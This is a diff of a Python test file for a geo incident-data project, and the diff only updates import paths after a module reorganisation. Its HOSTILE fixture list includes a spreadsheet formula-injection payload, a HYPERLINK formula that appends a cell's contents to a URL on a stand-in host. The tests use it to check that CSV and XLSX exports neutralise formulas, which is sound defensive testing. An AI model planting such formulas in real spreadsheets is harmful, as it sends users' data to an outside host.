@@ -16,13 +16,13 @@ import pandas as pd
 import pytest
 from sqlalchemy import Engine, update
 
-from geo.cli import main
-from geo.ingest import ImportOptions, import_incidents
-from geo.presence import create_entry, list_entries, week_plan_csv
-from geo.presence_commands import proposal_csv
-from geo.schema import areas
-from geo.spreadsheet import FORMULA_STARTS, csv_bytes, csv_rows, neutralise, xlsx_bytes
-from geo.store import active_layer
+from geo.commands.cli import main
+from geo.commands.presence import proposal_csv
+from geo.io.ingest import ImportOptions, import_incidents
+from geo.io.spreadsheet import FORMULA_STARTS, csv_bytes, csv_rows, neutralise, xlsx_bytes
+from geo.presence.log import create_entry, list_entries, week_plan_csv
+from geo.store.database import active_layer
+from geo.store.schema import areas
 
 HOSTILE = [
     '=HYPERLINK("https://example.invalid/?q="&A1;"klicka")',
@@ -117,7 +117,7 @@ def test_workbook_has_no_formula_cells() -> None:
 
 
 def test_import_templates_hold_no_formula() -> None:
-    from geo.columns import template_csv, template_xlsx
+    from geo.io.columns import template_csv, template_xlsx
 
     _assert_safe(_cells(template_csv()), [])
     workbook = openpyxl.load_workbook(io.BytesIO(template_xlsx()))
@@ -201,7 +201,7 @@ def _incidents(engine: Engine, folder: Path) -> None:
 
 
 def test_public_site_csv_files_with_hostile_area_names(store: Engine, tmp_path: Path) -> None:
-    from geo.publish import publish
+    from geo.public.publish import publish
 
     _incidents(store, tmp_path)
     _info, layer = active_layer(store)
@@ -222,7 +222,7 @@ def test_public_site_csv_files_with_hostile_area_names(store: Engine, tmp_path: 
 
 
 def test_hotspot_cells_csv_with_a_hostile_region_name(store: Engine, tmp_path: Path) -> None:
-    from geo.hotspots import hotspots_from_store, write_cells
+    from geo.analysis.hotspots import hotspots_from_store, write_cells
 
     _incidents(store, tmp_path)
     with store.begin() as connection:
